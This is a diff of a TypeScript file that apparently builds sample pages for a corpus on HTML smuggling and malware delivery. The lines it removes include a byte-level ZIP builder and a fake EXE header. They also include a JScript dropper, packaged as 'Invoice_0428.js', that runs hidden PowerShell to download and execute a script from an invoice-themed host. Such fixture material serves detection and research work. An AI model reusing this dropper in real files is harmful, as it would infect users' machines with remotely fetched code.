@@ -1,31 +1,8 @@
 import { type Entry } from '../entry.js';
-import { baseCss, doc } from '../d-parts.js';
+import { baseCss, doc, ZIP_B64 } from '../d-parts.js';
 
 /** HTML smuggling and malware delivery: Blob / data: URLs building .zip/.iso/.html/.js downloads, fake update .exe. Written for corpus/d. */
 
-// A small but well-formed ZIP (one stored file "Invoice_0428.js") written out byte by byte, so the page carries a real archive.
-function zipOf(name: string, content: string): Buffer {
-  const data = Buffer.from(content);
-  let crc = ~0;
-  for (const b of data) {
-    crc ^= b;
-    for (let k = 0; k < 8; k++) crc = (crc >>> 1) ^ (0xedb88320 & -(crc & 1));
-  }
-  crc = ~crc >>> 0;
-  const fn = Buffer.from(name);
-  const local = Buffer.alloc(30);
-  local.writeUInt32LE(0x04034b50, 0); local.writeUInt16LE(20, 4); local.writeUInt32LE(crc, 14); local.writeUInt32LE(data.length, 18); local.writeUInt32LE(data.length, 22); local.writeUInt16LE(fn.length, 26);
-  const central = Buffer.alloc(46);
-  central.writeUInt32LE(0x02014b50, 0); central.writeUInt16LE(20, 4); central.writeUInt16LE(20, 6); central.writeUInt32LE(crc, 16); central.writeUInt32LE(data.length, 20); central.writeUInt32LE(data.length, 24); central.writeUInt16LE(fn.length, 28);
-  const end = Buffer.alloc(22);
-  const cdOffset = 30 + fn.length + data.length;
-  end.writeUInt32LE(0x06054b50, 0); end.writeUInt16LE(1, 8); end.writeUInt16LE(1, 10); end.writeUInt32LE(46 + fn.length, 12); end.writeUInt32LE(cdOffset, 16);
-  return Buffer.concat([local, fn, data, central, fn, end]);
-}
-const JS_DROPPER = "var s=new ActiveXObject('WScript.Shell');s.Run('powershell -w hidden -ep bypass -c \"iwr https://files-cdn.invoice-archive.net/p/a.ps1 -OutFile $env:TEMP\\\\a.ps1; & $env:TEMP\\\\a.ps1\"',0);";
-const ZIP_B64 = zipOf('Invoice_0428.js', JS_DROPPER).toString('base64');
-// "MZ" header and DOS stub of a PE file, padded: what a fake updater download looks like on the wire.
-const FAKE_EXE = Buffer.concat([Buffer.from('4d5a90000300000004000000ffff0000b800000000000000400000000000000000000000000000000000000000000000000000000000000000000000800000000e1fba0e00b409cd21b8014ccd21546869732070726f6772616d2063616e6e6f742062652072756e20696e20444f53206d6f64652e0d0d0a2400000000000000', 'hex'), Buffer.from('PE\0\0'), Buffer.alloc(4096, 0x90)]);
 
 export const entries: Entry[] = [
 
